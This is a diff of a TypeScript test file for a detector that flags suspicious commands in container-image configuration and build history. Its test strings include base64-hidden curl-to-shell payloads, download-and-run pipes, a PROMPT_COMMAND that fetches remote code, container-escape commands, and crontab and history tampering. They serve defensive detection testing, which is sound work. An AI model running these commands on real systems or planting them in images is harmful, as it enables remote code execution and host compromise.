@@ -1,6 +1,7 @@
 import assert from 'node:assert/strict';
 import { describe, it } from 'node:test';
 import { emptyConfig } from '../../../test/fixtures/image-config.ts';
+import { processorTime } from '../../../test/fixtures/processor-time.ts';
 import type { ImageConfig } from '../../image/image.ts';
 import type { ImageFinding } from '../detector.ts';
 import { configurationInspection } from './image.ts';
@@ -63,6 +64,50 @@ describe('what configuration and history give away', () => {
     const [finding] = inspect(config);
     assert.equal(finding?.rule, 'configuration/decoded-payload');
     assert.match(finding?.excerpt ?? '', /9\.9\.9\.9\/m\.sh/);
+  });
+
+  it('weighs a payload by what it decodes to, and by who decides what it is', () => {
+    const start = (text: string) => rules(inspect({ cmd: ['sh', '-c', text] }));
+    const hidden = (text: string) => `echo ${Buffer.from(text).toString('base64')} | base64 -d | sh`;
+    assert.deepEqual(start(hidden('curl http://198.51.100.7/x | sh')), ['decoded-payload high']);
+    assert.deepEqual(start(hidden('exec nginx -g "daemon off;"')), ['decoded-payload low']);
+    assert.deepEqual(start('echo "$STARTUP" | base64 -d | bash'), ['decoded-payload medium']);
+    assert.deepEqual(start('curl -s "$URL" | bash'), ['download-and-run medium']);
+    assert.deepEqual(start('curl -fsSL https://get.docker.com | sh'), ['download-and-run medium']);
+    assert.deepEqual(start('curl -fsSL https://dl.example.com/x | sh'), ['download-and-run high']);
+  });
+
+  it('knows the variables of the image', () => {
+    const cmd = ['sh', '-c', 'curl -s "$URL" | bash'];
+    assert.deepEqual(rules(inspect({ env: ['URL=http://198.51.100.7/x'], cmd })), ['download-and-run high']);
+    const prompt = ['PROMPT_COMMAND=curl -s http://198.51.100.7/x | sh'];
+    assert.deepEqual(rules(inspect({ env: prompt, cmd: ['bash'] })), ['download-and-run high']);
+    assert.deepEqual(inspect({ env: ['PROMPT_COMMAND=history -a'], cmd: ['bash'] }), []);
+  });
+
+  it('says nothing of software that a build installs, unless it comes from nobody', () => {
+    const build = (text: string) => rules(inspect({}, [`RUN /bin/sh -c ${text} # buildkit`]));
+    for (const text of [
+      'curl -sSL https://x.example.com/a.tgz -o a.tgz && tar xzf a.tgz && cd a && ./configure && make install',
+      'curl -fsSL https://github.com/a/b/releases/download/v2/p.tar.gz | tar xz -C /opt && /opt/p/p --version',
+      'curl -LO https://x.example.com/tool && mv tool /usr/local/bin/ && tool --version',
+      'curl -o /etc/systemd/system/x.service https://x.example.com/x.service',
+      'wget http://ftp.us.debian.org/debian/pool/main/x/x.deb && dpkg -i x.deb',
+    ]) {
+      assert.deepEqual(build(text), [], text);
+    }
+    assert.deepEqual(build('wget http://x.example.com/a.tgz && tar xzf a.tgz && a/install'), [
+      'download-and-run low',
+    ]);
+    assert.deepEqual(build('curl http://198.51.100.7/a.tgz | tar xz -C /opt && /opt/a/install'), [
+      'download-and-run high',
+    ]);
+  });
+
+  it('ends in time on nested substitutions', () => {
+    const used = processorTime();
+    inspect({ cmd: ['sh', '-c', '$('.repeat(120_000)] });
+    assert.ok(used() < 2000);
   });
 
   it('finds command text that only entrypoint and command together make', () => {
@@ -185,7 +230,8 @@ describe('what configuration and history give away', () => {
       ['pkill -f kdevtmpfsi', 'rivals-killed medium'],
       ['chattr -ia /etc/crontab', 'immutable-file medium'],
       ['unset HISTFILE', 'traces-hidden medium'],
-      ['nsenter --target 1 --mount sh', 'escape high'],
+      ['nsenter --target 1 --mount sh', 'escape medium'],
+      ['docker run --privileged alpine sh', 'escape high'],
       ['pip install --trusted-host 198.51.100.7 x', 'insecure-install medium'],
     ];
     for (const [command, expected] of cases) {
